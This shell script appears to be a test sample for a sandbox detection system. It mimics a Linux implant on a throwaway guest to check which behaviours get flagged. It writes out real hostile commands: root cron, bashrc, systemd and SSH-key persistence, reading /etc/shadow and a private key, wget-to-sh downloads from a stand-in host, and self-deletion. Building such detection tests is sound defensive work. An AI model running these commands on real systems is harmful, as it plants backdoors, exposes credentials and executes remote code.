#!/bin/sh
# AASEE end-to-end sample: harmless to the throwaway guest, shaped like a small Linux implant.
# Each block is one behaviour whose signature and ATT&CK technique the test expects; the
# markers on stdout show each step really ran in the guest.
stage=/tmp/stage2

# Persistence: a cron job, a shell profile line, a systemd unit, an SSH key that logs in.
echo "*/10 * * * * root $stage" > /etc/cron.d/aasee-implant
echo "$stage >/dev/null 2>&1 &" >> /root/.bashrc
mkdir -p /etc/systemd/system
cat > /etc/systemd/system/aasee-implant.service <<'UNIT'
[Unit]
Description=aasee test implant

[Service]
ExecStart=/tmp/stage2

[Install]
WantedBy=multi-user.target
UNIT
mkdir -p /root/.ssh
chmod 700 /root/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAASEEtestkeyAASEEtestkeyAASEEtestkey aasee@e2e" \
    >> /root/.ssh/authorized_keys
echo "persisted"

# Credential access: the password hashes, and an SSH private key (planted first: the guest
# has none of its own).
cat /etc/shadow > /dev/null && echo "shadow read"
printf '%s\n' "-----BEGIN OPENSSH PRIVATE KEY-----" "AASEE-test-not-a-key" \
    "-----END OPENSSH PRIVATE KEY-----" > /root/.ssh/id_ed25519
chmod 600 /root/.ssh/id_ed25519
cat /root/.ssh/id_ed25519 > /dev/null && echo "key read"

# Download, make executable, run: the fake internet answers a .bin URL with a small ELF.
busybox wget -q -O "$stage" http://updates.aasee-cdn.example/stage2.bin && echo "downloaded"
chmod +x "$stage"
"$stage" && echo "stage2 ran"

# The same, the file written by a second process: a pipeline stage (cat) writes what busybox
# fetched, and cp copies a download before it is made executable and run.
cdn=http://updates.aasee-cdn.example
busybox wget -q -O - "$cdn/stage-c.bin" | cat > /tmp/stage-c
chmod 755 /tmp/stage-c
/tmp/stage-c && echo "pipe stage ran"
busybox wget -q -O /tmp/dl-e "$cdn/stage-e.bin"
cp /tmp/dl-e /tmp/stage-e
chmod +x /tmp/stage-e
/tmp/stage-e && echo "copy stage ran"

# A downloaded script handed to sh, and one piped into it: neither is ever made executable.
busybox wget -q -O /tmp/update.sh "$cdn/update.sh" && sh /tmp/update.sh && echo "script ran"
busybox wget -q -O - "$cdn/install.sh" | sh && echo "piped script ran"

# Helpers run through their interpreter that delete themselves (the script is only argv[1]).
printf 'rm -f "$0"\necho "helper-a gone"\n' > /tmp/helper-a.sh
sh /tmp/helper-a.sh
printf 'import os\nos.unlink(__file__)\nprint("helper-b gone")\n' > /tmp/helper-b.py
python3 /tmp/helper-b.py

# Self-deletion: the script removes its own file.
rm -f "$0" && echo "self deleted"
